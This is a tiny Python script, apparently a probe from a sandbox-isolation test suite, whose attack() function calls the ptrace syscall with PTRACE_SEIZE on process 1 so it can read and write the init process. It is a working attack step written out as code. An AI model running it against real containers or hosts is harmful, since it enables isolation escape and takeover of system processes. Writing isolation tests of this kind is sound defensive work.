"""Traces the room's first process, and would read and write all of it."""

import kit

PTRACE_SEIZE = 0x4206


def attack():
    kit.call(101, PTRACE_SEIZE, 1, 0, 0)
    return "process 1 is traced"
